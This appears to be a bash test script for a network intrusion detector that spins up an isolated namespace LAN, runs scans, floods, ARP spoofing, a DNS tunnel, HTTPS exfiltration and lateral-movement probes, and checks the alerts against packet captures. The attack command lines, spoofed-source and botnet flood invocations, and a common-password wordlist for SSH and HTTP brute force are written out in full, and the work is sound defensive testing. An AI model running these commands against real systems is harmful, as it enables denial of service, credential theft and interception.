#!/usr/bin/env bash
# Detection lab: builds the namespace LAN of lab.sh, runs real attack tools from Debian and
# benign workloads in it (one tcpdump capture on the LAN bridge per scenario), then hands the
# captures to run_detection.py, which replays each through `netmonsec -r` and checks that
# every attack yields the right alert kind with the right attacker and that benign traffic
# raises nothing above info.
#
#   run_detection_lab.sh NETMONSEC CONFIG
#     NMS_LAB_KEEP=DIR   keep the captures (and manifest.jsonl) in DIR; run_detection.py can
#                        then be re-run on them without root: run_detection.py --pcaps DIR ...
#     NMS_LAB_ONLY=RE    run only the scenarios whose name matches the regex RE
# Exit 77 = skipped (not root, or no network namespaces here).
set -euo pipefail

NETMONSEC=${1:?usage: run_detection_lab.sh PATH/TO/netmonsec PATH/TO/netmonsec.toml}
CONFIG=${2:?usage: run_detection_lab.sh PATH/TO/netmonsec PATH/TO/netmonsec.toml}
HERE=$(cd "$(dirname "$0")" && pwd)
ONLY=${NMS_LAB_ONLY:-.}

skip() { echo "SKIP: $*"; exit 77; }
[ "$(id -u)" -eq 0 ] || skip "needs root (network namespaces, raw sockets for the attack tools)"
ip netns add "nl-probe-$$" 2>/dev/null || skip "cannot create network namespaces here"
ip netns del "nl-probe-$$"

missing=()
for tool in ip ethtool tcpdump capinfos python3 nmap hping3 arp-scan arpspoof hydra iperf3 mosquitto \
    mosquitto_pub mosquitto_sub iodine iodined redis-server redis-cli redis-benchmark /usr/sbin/sshd ssh sshpass dig dnsmasq \
    curl openssl unshare; do
    command -v "$tool" >/dev/null || missing+=("$tool")
done
if [ ${#missing[@]} -gt 0 ]; then
    echo "FAIL: missing tools: ${missing[*]} (run scripts/install-deps.sh)"
    exit 1
fi

WORK=$(mktemp -d /tmp/nms-detlab.XXXXXX)
PCAPS=${NMS_LAB_KEEP:-$WORK/pcaps}
mkdir -p "$PCAPS"
MANIFEST=$PCAPS/manifest.jsonl
: >"$MANIFEST"

# shellcheck source=lab.sh
source "$HERE/lab.sh"
cleanup() {
    local rc=$?
    lab_down
    rm -rf "$WORK"
    exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

T0=$(date +%s)
lab_topology
lab_services "$WORK"
lab_wait_services
echo "lab up: $(ip netns list | grep -c "^$LAB_PREFIX-") namespaces in $(( $(date +%s) - T0 )) s"

SRV=$LAB_SERVER_IP
ATT=$LAB_ATTACKER_IP
ATT_MAC=$(lab_mac 66)
SSH_NOASK=(-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -o ConnectTimeout=5)

# Keep the tools' output for the report; never let a tool's exit status end the lab.
tool() { "$@" >>"$PCAPS/tools.log" 2>&1 || true; }

# ---- attacks ---------------------------------------------------------------------------------

sc_scan_vertical_syn() { tool lab_in att timeout 60 nmap -n -sS -p1-1000 -T4 "$SRV"; }
sc_scan_vertical_connect() { tool lab_in att timeout 60 nmap -n -sT -p1-1000 -T4 "$SRV"; }
# Every live LAN host (ARP discovery first, as nmap does on its own segment), then SYN to 22.
# On its own segment nmap probes port 22 only on the hosts that answered ARP (all of which
# answer the SYN), so what the wire shows is an ARP sweep of the /24: host_sweep (plus
# arp_scan). The routed scan below, where most addresses are empty, is the horizontal scan.
sc_scan_horizontal_lan() { tool lab_in att timeout 60 nmap -n -sS -p22 -T4 "$LAB_NET.0/24"; }
# A routed /24 where most addresses are unused: SYN to port 22 on all 256 without discovery.
sc_scan_horizontal_vlan() { tool lab_in att timeout 90 nmap -n -Pn -sS -p22 -T4 --max-retries 1 "$LAB_VLAN.0/24"; }
# Ping sweep of a routed /24 (ICMP echo, SYN 443, ACK 80, ICMP timestamp per address).
sc_host_sweep_vlan() { tool lab_in att timeout 60 nmap -n -sn -T4 "$LAB_VLAN.0/24"; }

sc_syn_flood() { tool lab_in att timeout 3 hping3 --syn --flood -p 80 "$SRV"; }
sc_syn_flood_rand_source() { tool lab_in att timeout 3 hping3 --syn --flood --rand-source -p 80 "$SRV"; }
sc_icmp_flood() { tool lab_in att timeout 3 hping3 --icmp --flood "$SRV"; }
sc_udp_flood() { tool lab_in att timeout 3 hping3 --udp --flood -p 9 "$SRV"; }
# Many sources, one victim: random spoofed sources, UDP to a closed port (only ICMP errors,
# rate-limited by the victim's kernel, come back).
sc_ddos_rand_source() { tool lab_in att timeout 3 hping3 --udp --flood --rand-source -p 9 "$SRV"; }
# A small botnet: every bot sends SYNs to the web server at ~2000/s at once.
sc_ddos_botnet() {
    local o pids=()
    for o in "${LAB_BOTS[@]}"; do
        lab_in "bot$o" timeout 3 hping3 -q --syn -p 80 --flood "$SRV" >>"$PCAPS/tools.log" 2>&1 &
        pids+=($!)
    done
    for o in "${pids[@]}"; do wait "$o" || true; done
}

sc_arp_scan() { tool lab_in att timeout 30 arp-scan -I eth0 --localnet; }
# The victim and the attacker first talk normally (their true bindings are on the wire), then
# the attacker poisons client .20 and the router about each other (-r: both ways, the MitM
# pattern) while the client keeps pinging its gateway; arpspoof re-ARPs on exit.
sc_arp_spoof() {
    # Expired ARP entries: the true bindings are resolved on the wire first.
    lab_in c20 ip neigh flush all
    lab_in rt ip neigh flush all
    tool lab_in c20 ping -c 2 -i 0.2 "$LAB_ROUTER_IP"
    tool lab_in att ping -c 2 -i 0.2 "$SRV"
    lab_in att timeout -k 12 8 arpspoof -i eth0 -t "$LAB_NET.20" -r "$LAB_ROUTER_IP" >>"$PCAPS/tools.log" 2>&1 &
    local spoof=$!
    tool lab_in c20 ping -c 12 -i 0.5 -W 1 "$LAB_ROUTER_IP"
    wait "$spoof" || true
}

# DNS tunnel with iodine: the client in .21 reaches iodined outside only through the LAN's
# resolver (-r: no direct UDP), then uploads 150 KB over HTTP through the tunnel (IP over DNS).
sc_dns_tunnel() {
    # -m: fixed downstream fragment size (the autoprobe costs seconds of timeouts).
    lab_in c21 timeout 40 iodine -f -r -m 1000 -P "$LAB_TUNNEL_PASSWORD" "$SRV" t.badtunnel.net >"$PCAPS/iodine.log" 2>&1 &
    local tun=$! i
    for i in $(seq 1 200); do  # bounded wait until the tunnel carries data
        grep -q "Connection setup complete" "$PCAPS/iodine.log" && break
        kill -0 "$tun" 2>/dev/null || break
        sleep 0.1
    done
    head -c 150000 /dev/urandom >"$WORK/secret.bin"
    tool lab_in c21 curl -sS -m 20 -T "$WORK/secret.bin" "http://$LAB_TUNNEL_NET.1/upload/secret.bin"
    kill -TERM "$tun" 2>/dev/null || true
    wait "$tun" || true
}

# DGA-like random names that do not exist: a storm of NXDOMAIN answers.
sc_nxdomain_storm() {
    python3 - "$WORK/dga.batch" "$SRV" <<'PY'
import random, string, sys
rnd = random.Random(7)
with open(sys.argv[1], "w") as f:
    for _ in range(300):
        name = "".join(rnd.choice(string.ascii_lowercase + string.digits) for _ in range(rnd.randint(10, 18)))
        f.write(f"@{sys.argv[2]} {name}.{rnd.choice(['com', 'net', 'org', 'info', 'biz'])}\n")
PY
    tool lab_in c22 timeout 60 dig +tries=1 +time=1 -f "$WORK/dga.batch"
}

make_wordlist() {
    printf '%s\n' 123456 password admin root toor letmein qwerty 12345678 111111 abc123 \
        password1 1234 iloveyou 000000 changeme welcome monkey dragon master sunshine \
        princess football shadow superman trustno1 passw0rd secret hello admin123 debian \
        raspberry ubuntu test guest P@ssw0rd Password1 root123 default server linux \
        qwerty123 1q2w3e4r admin1 pass123 alpine vagrant oracle postgres administrator \
        zaq12wsx 654321 7777777 123123 abcd1234 baseball access hunter2 michael jordan \
        summer2024 Winter2025 company corp2025 >"$WORK/words.txt"
}
sc_brute_force_hydra() {
    # -w 5: hydra otherwise waits 32 s for every connection sshd closed after MaxAuthTries.
    tool lab_in att timeout 90 hydra -l root -P "$WORK/words.txt" -t 4 -w 5 -I -q "ssh://$SRV"
}
sc_brute_force_sshpass() {
    local i
    for i in $(seq 1 20); do
        tool lab_in att timeout 10 sshpass -p "guess$i" ssh "${SSH_NOASK[@]}" -o PubkeyAuthentication=no \
            -o PreferredAuthentications=password -o NumberOfPasswordPrompts=1 "root@$SRV" true
    done
}

# Web login guessing: HTTP basic auth on /admin/ (every try refused with 401), then a login
# form (refused with 200 + "Login failed", as most web apps answer).
sc_brute_force_http() {
    tool lab_in att timeout 60 hydra -l admin -P "$WORK/words.txt" -t 4 -w 5 -I -q "http-get://$SRV/admin/"
    tool lab_in att timeout 60 hydra -l admin -P "$WORK/words.txt" -t 4 -w 5 -I -q "$SRV" http-post-form \
        '/login:user=^USER^&pass=^PASS^:F=Login failed'
}

# 200 MB over HTTPS from an internal client to one external host.
sc_exfiltration_https() {
    tool lab_in c20 sh -c "head -c 300000000 /dev/zero | timeout 90 curl -sSk --limit-rate 40M \
        --resolve portal.example.net:443:$LAB_EXT_IP -T - https://portal.example.net/upload/backup.tar"
}

# One internal host touching SSH, SMB and RDP on every workstation and the server.
sc_lateral_movement() {
    local o ip port
    for o in "${LAB_WORKSTATIONS[@]}" 10; do
        ip=$LAB_NET.$o
        for port in 445 3389 22; do
            tool lab_in c20 timeout 3 bash -c "exec 3<>/dev/tcp/$ip/$port && printf 'NEGOTIATE %s\r\n' $port >&3 \
                && timeout 1 head -c 1 <&3 >/dev/null"
        done
    done
}

# ---- benign ----------------------------------------------------------------------------------

sc_benign_web() {
    local c p
    for c in "${LAB_CLIENTS[@]}"; do
        tool lab_in "c$c" dig +short +tries=1 +time=1 "@$SRV" www.corp.lab portal.example.net
        tool lab_in "c$c" curl -m 10 -sS -o /dev/null --resolve "www.corp.lab:80:$SRV" http://www.corp.lab/
        for p in 1 2 3 4 5; do
            tool lab_in "c$c" curl -m 10 -sS -o /dev/null --resolve "www.corp.lab:80:$SRV" "http://www.corp.lab/docs/page$((p + c % 7)).html"
            tool lab_in "c$c" curl -m 10 -sSk -o /dev/null --resolve "www.corp.lab:443:$SRV" "https://www.corp.lab/docs/page$p.html"
            tool lab_in "c$c" curl -m 10 -sSk -o /dev/null --resolve "portal.example.net:443:$LAB_EXT_IP" "https://portal.example.net/docs/page$p.html"
            sleep 0.1  # reading time between clicks
        done
        tool lab_in "c$c" curl -m 10 -sSk -o /dev/null --resolve "portal.example.net:443:$LAB_EXT_IP" https://portal.example.net/docs/report.pdf
    done
}

sc_benign_dns() {
    local c n
    for c in "${LAB_CLIENTS[@]}"; do
        for n in www.corp.lab intranet.corp.lab mail.corp.lab files.corp.lab portal.example.net \
            cdn.example.net updates.example.net gw.corp.lab; do
            tool lab_in "c$c" dig +tries=1 +time=1 "@$SRV" "$n"
        done
        tool lab_in "c$c" dig +tries=1 +time=1 "@$SRV" corp.lab MX
        tool lab_in "c$c" dig +tries=1 +time=1 "@$SRV" corp.lab TXT
        tool lab_in "c$c" dig +tries=1 +time=1 "@$SRV" wpad.corp.lab  # the usual stray NXDOMAIN
        tool lab_in "c$c" dig +tries=1 +time=1 -x "$SRV" "@$SRV"
        sleep 0.2
    done
}

# Interactive-like SSH: commands typed with pauses; one user mistypes the password once.
sc_benign_ssh() {
    tool lab_in c21 sh -c "(echo hostname; sleep 0.4; echo uptime; sleep 0.4; echo 'ls -la /etc | head -5'; sleep 0.4; \
        echo 'df -h / | tail -1'; sleep 0.4; echo exit) | timeout 30 sshpass -p '$LAB_SSH_PASSWORD' ssh -tt ${SSH_NOASK[*]} root@$SRV"
    tool lab_in c22 timeout 15 sshpass -p 'labpass-typo' ssh "${SSH_NOASK[@]}" -o PubkeyAuthentication=no \
        -o NumberOfPasswordPrompts=1 "root@$SRV" true
    tool lab_in c22 timeout 15 sshpass -p "$LAB_SSH_PASSWORD" ssh "${SSH_NOASK[@]}" "root@$SRV" 'uname -a; id; cat /etc/debian_version'
}

# Bulk transfer between two internal hosts (backup-like), bounded in rate and time.
sc_benign_iperf3() {
    lab_in c21 timeout 20 iperf3 -s -1 -B "$LAB_NET.21" >>"$PCAPS/tools.log" 2>&1 &
    local server=$!
    lab_wait_listen c21 tcp 5201
    tool lab_in c20 timeout 15 iperf3 -c "$LAB_NET.21" -t 3 -b 400M
    wait "$server" || true
}

sc_benign_mqtt() {
    lab_in c21 timeout 20 mosquitto_sub -h "$SRV" -t 'sensors/#' -C 60 >>"$PCAPS/tools.log" 2>&1 &
    local sub=$!
    # The subscriber must be connected before the first publish (bounded wait).
    for _ in $(seq 1 100); do
        lab_in c21 ss -Htn state established "dport = :1883" | grep -q . && break
        sleep 0.05
    done
    tool lab_in c20 sh -c "for i in \$(seq 1 50); do echo \"{\\\"temp\\\": 2\$((i % 10)).5, \\\"seq\\\": \$i}\"; sleep 0.05; done \
        | timeout 15 mosquitto_pub -h $SRV -t sensors/room1/temp -l"
    local i
    for i in $(seq 1 10); do tool lab_in c22 timeout 5 mosquitto_pub -h "$SRV" -t sensors/door/state -m "closed $i"; done
    wait "$sub" || true
}

sc_benign_redis() {
    tool lab_in c20 sh -c "for i in \$(seq 1 100); do echo \"SET session:\$i user\$i\"; echo \"GET session:\$i\"; \
        echo 'INCR hits'; done | timeout 15 redis-cli -h $SRV"
    tool lab_in c21 timeout 30 redis-benchmark -h "$SRV" -q -n 2000 -c 4 -t set,get,lpush
}

make_wordlist

# ---- runner ----------------------------------------------------------------------------------

# scenario NAME EXPECT_KIND EXPECT_SRC EXPECT_VICTIM CHECK MIN [SNAPLEN]
#   EXPECT_KIND "-" = benign (nothing above info expected); EXPECT_SRC/VICTIM "-" = not checked
#   (the source of a random-source flood or a DDoS is no single host: the victim is checked).
#   CHECK/MIN: a BPF filter and the least number of frames of the capture it must match, so a
#   broken tool fails as "lab" and is never blamed on the detectors.
scenario() {
    local name=$1 kind=$2 src=$3 victim=$4 check=$5 min=$6 snap=${7:-0}
    [[ "$name" =~ $ONLY ]] || return 0
    local pcap=$PCAPS/$name.pcap t0
    t0=$(date +%s.%N)
    lab_capture_start "$pcap" "$snap"
    "sc_$name"
    sleep 0.5  # late answers and retransmissions still belong to the scenario
    lab_capture_stop "$pcap"
    local dt; dt=$(python3 -c "import time; print(round(time.time() - $t0, 1))")
    printf '{"name":"%s","pcap":"%s","kind":"%s","src":"%s","victim":"%s","attacker_mac":"%s","check":"%s","check_min":%d,"captured":%d,"dropped":%d,"seconds":%s}\n' \
        "$name" "$name.pcap" "$kind" "$src" "$victim" "$ATT_MAC" "$check" "$min" "$LAB_CAPTURED" "$LAB_DROPPED" "$dt" >>"$MANIFEST"
    echo "scenario $name: $LAB_CAPTURED frames captured, $LAB_DROPPED dropped by the kernel, ${dt} s"
}

SYN='tcp[tcpflags] & (tcp-syn|tcp-ack) == tcp-syn'
PAYLOAD='tcp[((tcp[12] & 0xf0) >> 2)'  # first bytes of the TCP payload: $PAYLOAD] or $PAYLOAD:4]
HEX_IP() { local IFS=.; set -- $1; printf '0x%02x%02x%02x%02x' "$1" "$2" "$3" "$4"; }
# Benign first: floods leave SYN-ACK retransmissions behind that would spill into them.
scenario benign_web - - - "tcp dst port 443 and $PAYLOAD]==0x16 and $PAYLOAD+5]==1" 30
scenario benign_dns - - - "udp src port 53 and udp[11] & 0x0f == 0" 30
scenario benign_ssh - - - "tcp port 22 and $PAYLOAD:4]==0x5353482d" 6
scenario benign_iperf3 - - - "src host $LAB_NET.20 and dst host $LAB_NET.21 and greater 1000" 50000
scenario benign_mqtt - - - "tcp port 1883 and $PAYLOAD] & 0xf0 == 0x30" 60
scenario benign_redis - - - "tcp dst port 6379 and ip[2:2] - ((ip[0] & 0xf) << 2) - ((tcp[12] & 0xf0) >> 2) > 0" 300

# 1000 probes in ~0.1 s: under load tcpdump may lose part of the burst, half of it proves the scan.
scenario scan_vertical_syn port_scan_vertical "$ATT" "$SRV" "src host $ATT and $SYN" 500
scenario scan_vertical_connect port_scan_vertical "$ATT" "$SRV" "src host $ATT and $SYN" 500
scenario scan_horizontal_lan host_sweep "$ATT" - "src host $ATT and $SYN and tcp dst port 22" 30
scenario scan_horizontal_vlan port_scan_horizontal "$ATT" - "src host $ATT and $SYN and dst net $LAB_VLAN.0/24" 256
scenario host_sweep_vlan host_sweep "$ATT" - "src host $ATT and icmp[0]==8 and dst net $LAB_VLAN.0/24" 256
scenario syn_flood syn_flood "$ATT" "$SRV" "dst host $SRV and $SYN" 20000
scenario syn_flood_rand_source syn_flood - "$SRV" "dst host $SRV and $SYN" 20000
scenario icmp_flood icmp_flood "$ATT" "$SRV" "src host $ATT and icmp[0]==8" 20000
scenario udp_flood udp_flood "$ATT" "$SRV" "src host $ATT and udp dst port 9" 20000
scenario ddos_rand_source ddos - "$SRV" "dst host $SRV and udp dst port 9" 20000
scenario ddos_botnet ddos - "$SRV" "dst host $SRV and $SYN and src net $LAB_NET.200/29" 10000
scenario arp_scan arp_scan "$ATT" - "arp and arp[6:2]==1 and arp[14:4]==$(HEX_IP "$ATT")" 250
scenario arp_spoof arp_spoof "$ATT" "$LAB_NET.20" \
    "arp and arp[6:2]==2 and ether src $ATT_MAC and arp[14:4]==$(HEX_IP "$LAB_ROUTER_IP")" 3
# Tunnel queries are long (> 150 bytes on the wire); NXDOMAIN = rcode 3 in the DNS flags.
scenario dns_tunnel dns_tunnel "$LAB_NET.21" - "src host $LAB_NET.21 and udp dst port 53 and greater 150" 150
scenario nxdomain_storm nxdomain_storm "$LAB_NET.22" - "udp src port 53 and udp[11] & 0x0f == 3" 290
scenario brute_force_hydra brute_force "$ATT" "$SRV" "src host $ATT and $SYN and tcp dst port 22" 10
scenario brute_force_sshpass brute_force "$ATT" "$SRV" "src host $ATT and $SYN and tcp dst port 22" 20
scenario brute_force_http brute_force "$ATT" "$SRV" "src host $ATT and tcp dst port 80 and $PAYLOAD:4]==0x504f5354" 30
scenario exfiltration_https exfiltration "$LAB_NET.20" "$LAB_EXT_IP" "src host $LAB_NET.20 and dst host $LAB_EXT_IP and greater 1000" 100000
scenario lateral_movement lateral_movement "$LAB_NET.20" - \
    "src host $LAB_NET.20 and $SYN and (tcp dst port 22 or tcp dst port 445 or tcp dst port 3389)" 75

echo "captures done in $(( $(date +%s) - T0 )) s"
lab_down
LAB_NAMESPACES=()
LAB_PIDS=()

python3 "$HERE/run_detection.py" --netmonsec "$NETMONSEC" --config "$CONFIG" --pcaps "$PCAPS" \
    --out "$PCAPS/detection_table.json" --work "$WORK/replay"
